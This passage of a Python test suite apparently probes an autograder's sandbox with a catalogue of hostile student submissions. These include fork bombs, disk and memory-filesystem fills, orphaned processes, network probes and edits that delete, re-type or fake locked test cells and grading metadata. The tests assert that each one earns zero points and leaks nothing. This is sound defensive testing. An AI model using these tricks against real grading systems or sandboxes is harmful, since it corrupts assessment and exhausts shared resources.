    "catch-timeout": Attack("swallows the time-out exception in a loop", solution(CATCH_TIMEOUT)),
    "allocate-huge": Attack("allocates 10 GB, 16 GB and 8 GB", solution(ALLOCATE)),
    "fork-bomb": Attack("forks until it cannot", solution(FORK_BOMB), isolation=True),
    "orphans": Attack(
        "leaves setsid'd and double-forked sleepers behind", solution(ORPHAN_CODE), isolation=True
    ),
    "disk-fill": Attack(
        "writes a 384 MB file, then 512 MB of files in its folder",
        solution(FILL.replace("$folders", "['.']")),
        isolation=True,
    ),
    "memory-fs-fill": Attack(
        "writes 512 MB of files in each of /tmp, /dev/shm, /dev and / (memory-backed tmpfs)",
        solution(FILL.replace("$folders", "['/tmp', '/dev/shm', '/dev', '/']")),
        isolation=True,
    ),
    "output-flood": Attack("prints 50 MB, 200,000 lines, floods fd 1 and 2", solution(OUTPUT_FLOOD)),
    "huge-return": Attack("returns 200 MB of bytes", solution(HUGE_RETURN)),
    # 8. Network
    "network-tcp": Attack(
        "connects to the host's loopback and non-loopback listeners, DNS, UDP",
        solution(NETWORK),
        isolation=True,
    ),
    "network-unix": Attack(
        "connects to every Unix socket under /tmp (the test server's)", solution(UNIX_SOCKETS), isolation=True
    ),
    # 9. Edited, deleted, duplicated or re-typed locked cells and metadata
    "delete-tests": Attack("deletes both test cells", edited(delete_tests), reason="most of it was deleted"),
    "edit-tests": Attack("replaces both tests with pass", edited(blank_out_tests), reason="was edited"),
    "duplicate-tests": Attack("a pass-only copy of each test before the real ones", edited(duplicate_tests)),
    "tests-first": Attack("moves the tests above the solution", edited(move_tests_up)),
    "solution-as-test": Attack(
        "solution cell made grade: true, locked: true, points: 100, new grade_id",
        edited(solution_as_graded),
    ),
    "solution-takes-test-id": Attack(
        "solution cell takes the grade_id of a test", edited(solution_takes_test_id)
    ),
    "solution-as-setup": Attack(
        "solution cell tagged test-setup and locked, rebinding check_equal", edited(solution_tagged_setup)
    ),
    "tests-to-markdown": Attack("test cells re-typed as markdown", edited(retype_tests("markdown"))),
    "tests-to-raw": Attack("test cells re-typed as raw", edited(retype_tests("raw"))),
    "points-thousand": Attack("points: 1000 in the tests' and the solution's metadata", edited(points_1000)),
    "unmark-tests": Attack("nbgrader metadata removed from the tests", edited(unmark_tests)),
    "prefilled-outputs": Attack("outputs and notebook metadata claiming success", edited(prefilled_outputs)),
    "other-kernel": Attack("a bash kernelspec and a bash solution", edited(other_kernel)),
    "metadata-not-a-dict": Attack(
        "nbgrader metadata that is a string",
        edited(metadata_not_a_dict),
        status=FAILED,
        reason="metadata is damaged",
    ),
    "grade-id-not-a-string": Attack(
        "grade ids that are a dict and a list",
        edited(grade_id_not_a_string),
        status=FAILED,
        reason="metadata is damaged",
    ),
    "same-cell-ids": Attack("every cell has the same id", edited(same_cell_ids)),
    # 10. Malformed, empty and huge files
    "not-json": Attack(
        "a text file", raw(b"this is not a notebook\n"), status=FAILED, reason="not valid JSON"
    ),
    "empty-file": Attack("an empty file", raw(b""), status=FAILED, reason="not a valid notebook"),
    "binary-garbage": Attack("binary bytes", raw(bytes(range(256)) * 64), status=FAILED),
    "json-not-a-notebook": Attack("a JSON list", raw(b"[1, 2, 3]"), status=FAILED),
    "truncated": Attack(
        "the release cut after 1,500 bytes",
        raw(lambda t: json.dumps(t.release).encode()[:1500]),
        status=FAILED,
        reason="not valid JSON",
    ),
    "deep-json": Attack("JSON nested 100,000 deep", raw(b"[" * 100_000 + b"]" * 100_000), status=FAILED),
    "zero-cells": Attack(
        "a notebook with no cells",
        raw(json.dumps(nbformat.v4.new_notebook()).encode()),
        reason="most of it was deleted",
    ),
    "nbformat-99": Attack("nbformat version 99", raw(version(99)), status=FAILED),
    "nbformat-3": Attack("an nbformat 3 notebook", raw(NBFORMAT_3)),
    "huge-markdown": Attack("a 30 MB markdown cell", edited(huge_cell("markdown", 30))),
    "huge-code": Attack("a 20 MB code cell", edited(huge_cell("code", 20))),
    "many-cells": Attack("3,000 extra code cells", edited(many_cells)),
    "folder-not-file": Attack(
        "a folder named toy.ipynb",
        lambda t: {NOTEBOOK: None},
        status=FAILED,
        reason="missing notebook toy.ipynb",
    ),
    "extra-files": Attack("20 more notebooks, a gradebook.db, a grading.json, a folder", extra_files),
}


# Grading the corpus ------------------------------------------------------------------------------


class Listener:
    """A TCP server on this machine that records every connection it accepts."""

    def __init__(self, address: str) -> None:
        self.server = socket.create_server((address, 0))
        self.address, self.port = address, self.server.getsockname()[1]
        self.accepted: list[tuple] = []
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, peer = self.server.accept()
            except OSError:
                return
            self.accepted.append(peer)
            conn.close()

    def works(self) -> bool:
        """Can this machine itself connect? (Guards against a listener that accepts nothing.)"""
        with socket.create_connection((self.address, self.port), timeout=2):
            pass
        for _ in range(100):
            if self.accepted:
                break
            threading.Event().wait(0.02)
        ok = bool(self.accepted)
        self.accepted.clear()
        return ok

    def close(self) -> None:
        self.server.close()


def host_address() -> str:
    """A non-loopback IPv4 address of this machine, or '' (a UDP connect sends nothing)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))
            address = probe.getsockname()[0]
        except OSError:
            return ""
    return "" if address.startswith("127.") else address


def snapshot(root: Path) -> dict[str, str]:
    return {
        str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(root.rglob("*"))
        if p.is_file()
    }


def cli(root: Path, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "autograder", "--root", str(root), *args],
        capture_output=True,
        text=True,
        timeout=900,
    )


def lingering(token: str) -> list[str]:
    """Command lines of processes an attack of this run tried to leave behind (after a grace second)."""
    for _ in range(20):
        found = []
        for entry in Path("/proc").iterdir():
            try:
                cmdline = (entry / "cmdline").read_bytes() if entry.name.isdigit() else b""
            except OSError:
                continue
            if f"{ORPHAN}{token}".encode() in cmdline:
                found.append(cmdline.replace(b"\0", b" ").decode(errors="replace"))
        if not found:
            break
        time.sleep(0.1)
    return found


@dataclass
class Corpus:
    course_root: Path
    students: list[str]
    isolated: bool
    grade: subprocess.CompletedProcess
    feedback: subprocess.CompletedProcess
    results: dict[str, dict]
    pages: dict[str, str]
    before: dict[str, dict[str, str]]
    after: dict[str, dict[str, str]]
    listeners: list[Listener]
    listeners_worked: bool
    orphans: list[str]


@pytest.fixture(scope="module")
def corpus(released_course, tmp_path_factory, sandbox) -> Corpus:
    tmp = tmp_path_factory.mktemp("adversarial")
    course = copy_of(released_course, tmp / "course")
    release = json.loads((course.path("release", ".", ASSIGNMENT) / NOTEBOOK).read_text())
    address = host_address()
    listeners = [Listener("127.0.0.1")] + ([Listener(address)] if address else [])
    try:
        worked = all(listener.works() for listener in listeners)
        isolated = sandbox.isolation == "bubblewrap"
        students = [name for name, attack in ATTACKS.items() if isolated or not attack.isolation]
        subs, token = tmp / "subs", uuid.uuid4().hex[:8]
        for student in students:
            target = Target(
                student,
                token,
                release,
                str(course.root),
                listeners[0].port,
                listeners[-1].address if len(listeners) > 1 else "",
                listeners[-1].port,
            )
            folder = subs / student / ASSIGNMENT
            folder.mkdir(parents=True)
            for name, content in ATTACKS[student].make(target).items():
                if content is None:
                    (folder / name).mkdir()
                else:
                    (folder / name).write_bytes(content)
        for student, code in ((HONEST, SOLUTION), (BLANK, None)):
            nb = copy.deepcopy(release)
            if code is not None:
                _cell(nb, "add")["source"] = code
            (subs / student / ASSIGNMENT).mkdir(parents=True)
            (subs / student / ASSIGNMENT / NOTEBOOK).write_text(json.dumps(nb))
        before = {part: snapshot(course.root / part) for part in ("source", "release")}
        graded = cli(course.root, "grade", ASSIGNMENT, str(subs), "--no-progress", *LIMITS)
        orphans = lingering(token)
        feedback = cli(course.root, "feedback", ASSIGNMENT)
        after = {part: snapshot(course.root / part) for part in ("source", "release")}
    finally:
        for listener in listeners:
            listener.close()
    everyone = [*students, HONEST, BLANK]
    results = {s: course.read_result(s, ASSIGNMENT) for s in everyone}
    pages = {}
    for s in everyone:
        page = course.path("feedback", s, ASSIGNMENT) / "feedback.html"
        pages[s] = page.read_text() if page.is_file() else None
    return Corpus(
        course.root,
        students,
        isolated,
        graded,
        feedback,
        results,
        pages,
        before,
        after,
        listeners,
        worked,
        orphans,
    )


# What every submission must not achieve ----------------------------------------------------------


def forbidden(corpus: Corpus) -> list[str]:
    """Text that must never reach a feedback page."""
    return [
        HIDDEN_LINE,
        "BEGIN HIDDEN",
        "add(-5",
        "-5",
        "-10",
        MARK,
        ORPHAN,
        str(corpus.course_root),
        "/tmp/autograder-",
        "--ro-bind",
        "NBGRADER_EXECUTION",
        "Traceback",
        'File "',
        "stopped unexpectedly",  # the trusted side crashed: its log tail would be quoted
    ]


def student_cell_outputs(corpus: Corpus, student: str) -> str:
    """The outputs of the cells that ran in the sandbox, from the graded notebook (instructor's view)."""
    path = corpus.course_root / "autograded" / student / ASSIGNMENT / NOTEBOOK
    if not path.is_file():
        return ""
    nb = nbformat.read(path, as_version=4)
    return json.dumps(
        [
            cell.get("outputs", [])
            for cell in nb.cells
            if not cell.metadata.get("nbgrader", {}).get("grade") or cell.metadata.nbgrader.get("solution")
        ]
    )


@pytest.mark.parametrize("name", ATTACKS)
def test_attack_earns_nothing(corpus, name):
    if name not in corpus.students:
        pytest.skip(NO_BWRAP)
    attack, result = ATTACKS[name], corpus.results[name]
    assert result is not None, f"{name} has no grading.json"
    assert result["max_score"] == 3
    assert result["score"] <= corpus.results[BLANK]["score"] == 0, result
    assert all(t["score"] == 0 for t in result["tests"]), result["tests"]
    if attack.status:
        assert result["status"] == attack.status, result
    if attack.reason:
        assert attack.reason in " ".join(result["reasons"]), result["reasons"]


@pytest.mark.parametrize("name", ATTACKS)
def test_attack_leaks_nothing_to_feedback(corpus, name):
    if name not in corpus.students:
        pytest.skip(NO_BWRAP)
    page = corpus.pages[name]
    assert page is not None, f"no feedback page for {name}"
    assert f"feedback for {name}" in page
    for text in forbidden(corpus):
        assert text not in page, f"{text!r} reached {name}'s feedback page"


@pytest.mark.parametrize("name", [n for n, a in ATTACKS.items() if a.isolation])
def test_sandbox_saw_nothing_hidden(corpus, name):
    """What the isolation attacks printed from the sandbox holds no hidden test, path or planted file."""
    if name not in corpus.students:
        pytest.skip(NO_BWRAP)
    outputs = student_cell_outputs(corpus, name)
    course_only = (
        "add(-5",  # the hidden test
        "Return a + b",  # the solution's docstring (source notebook, gradebook)
        "Write `add`",  # the intro cell (source and release notebooks)
        "sagemaker-lifecycle",  # the course id (nbgrader_config.py, gradebook)
        "SQLite format",  # any gradebook
        "planted by the writer",  # another submission's file
    )
    for text in course_only:
        assert text not in outputs, f"{name} saw {text!r}"
    if name == "network-tcp":
        assert "connected" not in outputs


def test_writable_space_is_capped(corpus):
    """Files a submission writes cost at most the file size limit in each writable place."""
    if not corpus.isolated:
        pytest.skip(NO_BWRAP)
    if not tmpfs_size_supported():
        pytest.skip("this bwrap cannot cap a tmpfs (--size needs bubblewrap 0.7 or later, not setuid)")
    for name in ("disk-fill", "memory-fs-fill"):
        outputs = json.loads(student_cell_outputs(corpus, name))
        line = next(
            line
            for cell in outputs
            for o in cell
            for line in o.get("text", "").splitlines()
            if line.startswith("WROTE ")
        )
        wrote = json.loads(line.removeprefix("WROTE "))
        assert wrote and all(mb <= MAX_FILE_MB for mb in wrote.values()), (name, wrote)


def test_batch_completes(corpus):
    assert corpus.grade.returncode == 0, corpus.grade.stderr[-3000:]
    assert "Traceback" not in corpus.grade.stderr, corpus.grade.stderr[-3000:]
    expected = "sandbox: bubblewrap" if corpus.isolated else "sandbox: WARNING"
    assert corpus.grade.stderr.startswith(expected)
    everyone = [*corpus.students, HONEST, BLANK]
    assert f"{len(everyone)} submissions of {ASSIGNMENT}: {len(everyone)} graded now" in corpus.grade.stdout
    missing = [s for s in everyone if corpus.results[s] is None]
    assert missing == []
    crashed = [s for s in everyone if "stopped unexpectedly" in " ".join(corpus.results[s]["reasons"])]
    assert crashed == [], "the trusted side crashed"
    graded = sorted(p.name for p in (corpus.course_root / "autograded").iterdir())
    assert graded == sorted(everyone)


def test_controls_are_unaffected(corpus):
    honest, blank = corpus.results[HONEST], corpus.results[BLANK]
    assert (honest["score"], honest["status"], honest["reasons"]) == (3, "graded", [])
    assert [t["status"] for t in honest["tests"]] == ["passed", "passed"]
    assert (blank["score"], blank["max_score"], blank["status"]) == (0, 3, "graded")
    assert [t["status"] for t in blank["tests"]] == ["failed", "failed"]


def test_gradebook_holds_exactly_the_results(corpus):
    course = Course(corpus.course_root)
    with course.gradebook() as gb:
        assert sorted(s.id for s in gb.students) == sorted([*corpus.students, HONEST, BLANK])
        assignment = gb.find_assignment(ASSIGNMENT)
        assert assignment.max_score == 3
        assert len(assignment.notebooks) == 1 and len(assignment.notebooks[0].grade_cells) == 2
        for student, result in corpus.results.items():
            submission = gb.find_submission(ASSIGNMENT, student)
            assert (submission.score, submission.max_score) == (result["score"], 3), student


def test_source_and_release_are_untouched(corpus):
    assert corpus.before["source"] and corpus.before["release"]
    assert corpus.after == corpus.before


def test_nothing_reached_the_network(corpus):
    assert corpus.listeners_worked, "the listeners could not accept a connection from this machine itself"
    if not corpus.isolated:
        pytest.skip(NO_BWRAP)
    assert [listener.accepted for listener in corpus.listeners] == [[]] * len(corpus.listeners)
    if len(corpus.listeners) < 2:
        pytest.skip("this machine has no non-loopback IPv4 address; only loopback was tried")


def test_no_process_outlives_the_batch(corpus):
    if "orphans" not in corpus.students:
        pytest.skip(NO_BWRAP)
    assert corpus.orphans == []


def test_feedback_has_a_clean_page_for_everyone(corpus):
    assert corpus.feedback.returncode == 0, corpus.feedback.stderr
    assert len(corpus.feedback.stdout.splitlines()) == len(corpus.pages)
    for student, page in corpus.pages.items():
        assert page is not None, student
        for text in forbidden(corpus):
            assert text not in page, f"{text!r} reached {student}'s feedback page"
